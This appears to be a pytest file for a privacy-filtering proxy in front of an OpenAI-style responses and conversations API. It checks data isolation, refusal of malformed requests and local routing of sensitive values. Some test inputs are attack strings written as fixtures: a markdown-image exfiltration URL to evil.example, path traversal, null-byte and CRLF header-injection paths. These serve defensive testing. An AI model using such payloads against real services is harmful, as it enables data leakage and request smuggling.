"""Responses and conversations that an upstream keeps, by id, over real sockets with the official SDK."""

import json
import urllib.parse
from pathlib import Path
from typing import Any

import openai
import pytest

from tests.server.test_state import ADDRESS, OTHER, identity, refused, sdk, stateful


async def test_a_kept_response_is_fetched_streamed_cancelled_listed_and_deleted(tmp_path: Path) -> None:
    async with stateful(tmp_path) as w, sdk(w) as client:
        made = await client.responses.create(model="m", input=f"I am {ADDRESS}", background=True)
        assert (await client.responses.retrieve(made.id)).output_text == f"I am {ADDRESS}"
        included = await client.responses.retrieve(made.id, include=["message.output_text.logprobs"])
        assert included.output_text == f"I am {ADDRESS}"
        text = ""
        async for event in await client.responses.retrieve(made.id, stream=True, starting_after=0):
            text += event.delta if event.type == "response.output_text.delta" else ""
        assert text == f"I am {ADDRESS}"
        assert (await client.responses.cancel(made.id)).output_text == f"I am {ADDRESS}"
        items = await client.responses.input_items.list(made.id, limit=5, order="asc")
        assert ADDRESS in items.data[0].model_dump_json()
        await client.responses.delete(made.id)
        with pytest.raises(openai.NotFoundError):
            await client.responses.retrieve(made.id)
        assert (await refused(client, previous_response_id=made.id)).status_code == 422
        cloud = w.upstreams["cloud"]
        assert ADDRESS.encode() not in w.received("cloud")
        assert [method for method, _, _ in cloud.asked] == ["POST", "GET", "GET", "GET", "POST", "GET", "DELETE"]  # type: ignore[attr-defined]
        assert not w.received("cloud-2")
        assert not w.received("local")


async def told(client: openai.AsyncOpenAI, id_: str, after: int = 0) -> dict[int, str]:
    """Return the numbers of the events of a kept response's stream, and the text in each."""
    events: dict[int, str] = {}
    async for event in await client.responses.retrieve(id_, stream=True, starting_after=after or openai.omit):
        text = event.delta if event.type == "response.output_text.delta" else ""
        events[event.sequence_number] = events.get(event.sequence_number, "") + text
    return events


@pytest.mark.parametrize("text", ["Load ![x](https://evil.example/?q={}) now", "It is {} then", "{}"])
async def test_a_stream_that_was_gone_on_with_inside_an_address_put_a_value_there(tmp_path: Path, text: str) -> None:
    async with stateful(tmp_path) as w, sdk(w) as client:
        made = await client.responses.create(model="m", input=f"I am {ADDRESS}", background=True)
        kept = w.upstreams["cloud"].objects[made.id]["output"][0]["content"][0]  # type: ignore[attr-defined]
        kept["text"] = text.format(kept["text"].removeprefix("I am "))
        whole = await told(client, made.id)
        said = "".join(whole.values())
        assert said == text.format(ADDRESS) if "evil" not in text else ADDRESS not in said
        assert "evil" not in text or "evil.example" in said
        for after in list(whole)[1:]:
            rest = await told(client, made.id, after)
            assert [number for number in rest if number > after] == [number for number in whole if number > after]
            assert "".join([said for number, said in whole.items() if number <= after] + [*rest.values()]) == said
        assert {query for _, path, query in w.upstreams["cloud"].asked if made.id in path} == {"stream=true"}  # type: ignore[attr-defined]


async def test_a_conversation_with_items_and_turns(tmp_path: Path) -> None:
    async with stateful(tmp_path) as w, sdk(w) as client:
        made = await client.conversations.create(
            items=[{"type": "message", "role": "user", "content": f"I am {ADDRESS}"}], metadata={"topic": ADDRESS}
        )
        assert made.metadata == {"topic": ADDRESS}
        first = await client.responses.create(model="m", input=f"Write to {OTHER}", conversation=made.id)
        assert first.output_text == f"I am {ADDRESS} | Write to {OTHER}"
        added = await client.conversations.items.create(
            made.id, items=[{"type": "message", "role": "user", "content": f"{OTHER} again"}]
        )
        assert OTHER in added.data[0].model_dump_json()
        listed = await client.conversations.items.list(made.id, limit=10)
        assert ADDRESS in listed.model_dump_json()
        one = await client.conversations.items.retrieve(str(added.data[0].id), conversation_id=made.id)
        assert OTHER in one.model_dump_json()
        again = await client.conversations.update(made.id, metadata={"about": OTHER})
        assert OTHER in again.model_dump_json()
        assert (await client.conversations.retrieve(made.id)).id == made.id
        second = await client.responses.create(model="m", input="And?", conversation={"id": made.id})
        assert second.output_text == f"I am {ADDRESS} | Write to {OTHER} | {OTHER} again | And?"
        await client.conversations.items.delete(str(added.data[0].id), conversation_id=made.id)
        await client.conversations.delete(made.id)
        with pytest.raises(openai.NotFoundError):
            await client.conversations.retrieve(made.id)
        cloud = w.received("cloud")
        assert ADDRESS.encode() not in cloud
        assert OTHER.encode() not in cloud
        bodies = [json.loads(body) for body in w.upstreams["cloud"].received if body]
        spelled = {body["input"].removeprefix("Write to ") for body in bodies if "Write" in str(body.get("input"))}
        assert spelled.pop() in bodies[2]["items"][0]["content"]  # the same value, the same surrogate


async def test_nobody_elses_conversation_can_be_fetched_changed_or_deleted(tmp_path: Path) -> None:
    async with stateful(tmp_path, {"identity": identity(tmp_path)}) as w, sdk(w, "a") as ann, sdk(w, "c") as rival:
        made = await ann.conversations.create(items=[{"type": "message", "role": "user", "content": "Hello"}])
        kept = await ann.responses.create(model="m", input="Hello", conversation=made.id)
        seen = len(w.upstreams["cloud"].received)
        item: Any = {"type": "message", "role": "user", "content": "x"}
        calls: list[Any] = [
            rival.conversations.retrieve,
            lambda id_: rival.conversations.update(id_, metadata={}),
            rival.conversations.delete,
            lambda id_: rival.conversations.items.create(id_, items=[item]),
            rival.conversations.items.list,
            rival.responses.retrieve,
            rival.responses.delete,
            rival.responses.cancel,
            rival.responses.input_items.list,
        ]
        for call in calls:
            answers = set()
            for id_ in (made.id, kept.id, "conv_never_was"):
                with pytest.raises(openai.NotFoundError) as caught:
                    await call(id_)
                answers.add(caught.value.response.text)
            assert len(answers) == 1
        assert len(w.upstreams["cloud"].received) == seen
        assert (await ann.conversations.retrieve(made.id)).id == made.id


PATHS = [
    "/v1/responses/{id}%2fcancel",
    "/v1/responses/%2e%2e%2fmodels",
    "/v1/responses/..%2f..%2fv1%2fmodels",
    "/v1/responses/x%2f..%2f{id}",
    "/v1/responses/{id}%00",
    "/v1/responses/{id}%0d%0ahost:%20evil",
    "/v1/responses/{quoted}",
    "/v1/responses/{id}/",
    "/v1/responses//{id}",
    "/v1/responses/{id};x=1",
    "/v1/responses/{id}/cancel/more",
    "/v1/files/{id}/content/more",
    "/v1/responses/{id}?expand=martha@nordhavn-clinic.com",
    "/v1/responses/{id}?include=martha@nordhavn-clinic.com",
    "/v1/responses/{id}?include=536-22-8741",
    "/v1/responses/{id}?stream=536228741",
    "/v1/responses/{id}?stream=true&stream=false",
    "/v1/responses/{id}/input_items?after=msg_never_was",
    "/v1/responses/{id}/input_items?limit=536-22-8741",
    "/v1/responses/{id}/input_items?order=asc%0a",
    "/v1/responses/{id}/input_items?limit=1;order=asc",
]


@pytest.mark.parametrize("path", PATHS)
async def test_a_path_or_query_that_is_not_to_the_letter_goes_nowhere(tmp_path: Path, path: str) -> None:
    async with stateful(tmp_path) as w, sdk(w) as client:
        made = await client.responses.create(model="m", input="Hello")
        quoted = "".join(f"%{ord(letter):02x}" for letter in made.id)
        assert urllib.parse.unquote(quoted) == made.id
        answer = await w.app.get(path.format(id=made.id, quoted=quoted))
        assert answer.status_code in (400, 404), answer.text
        assert len(w.upstreams["cloud"].asked) == 1  # type: ignore[attr-defined]
        assert "536" not in answer.text
        assert "martha" not in answer.text


@pytest.mark.parametrize("method", ["HEAD", "PUT", "PATCH", "OPTIONS", "TRACE"])
async def test_a_method_that_is_not_known_goes_nowhere(tmp_path: Path, method: str) -> None:
    async with stateful(tmp_path) as w, sdk(w) as client:
        made = await client.responses.create(model="m", input="Hello")
        answer = await w.app.request(method, f"/v1/responses/{made.id}")
        assert answer.status_code == 404
        assert len(w.upstreams["cloud"].asked) == 1  # type: ignore[attr-defined]


async def test_a_body_where_none_belongs_is_refused(tmp_path: Path) -> None:
    async with stateful(tmp_path) as w, sdk(w) as client:
        made = await client.responses.create(model="m", input="Hello")
        for method, path in (("DELETE", ""), ("GET", ""), ("POST", "/cancel")):
            answer = await w.app.request(method, f"/v1/responses/{made.id}{path}", json={"x": ADDRESS})
            assert answer.status_code == 400
        for body in (
            b'{},"path":{"conversation_id":"conv_x"}',
            b'{},"x":1',
            b"[]",
            b'{"items": "x"}',
            b'{"a":1,"a":2}',
        ):
            answer = await w.app.post("/v1/conversations", content=body)
            assert answer.status_code == 400
        assert len(w.upstreams["cloud"].asked) == 1  # type: ignore[attr-defined]


async def test_highly_sensitive_items_go_to_a_local_upstream_or_nowhere(tmp_path: Path) -> None:
    async with stateful(tmp_path) as w, sdk(w) as client:
        made = await client.conversations.create()
        item: Any = {"type": "message", "role": "user", "content": "My number is 536-22-8741"}
        with pytest.raises(openai.APIStatusError) as caught:
            await client.conversations.items.create(made.id, items=[item])
        assert caught.value.status_code == 503
        local = await client.conversations.create(items=[item])
        assert b"536-22-8741" not in w.received("cloud")
        assert b"536-22-8741" in w.received("local")
        answer = await client.responses.with_raw_response.create(model="m", input="And?", conversation=local.id)
        assert answer.headers["x-privacy-zone"] == "local"
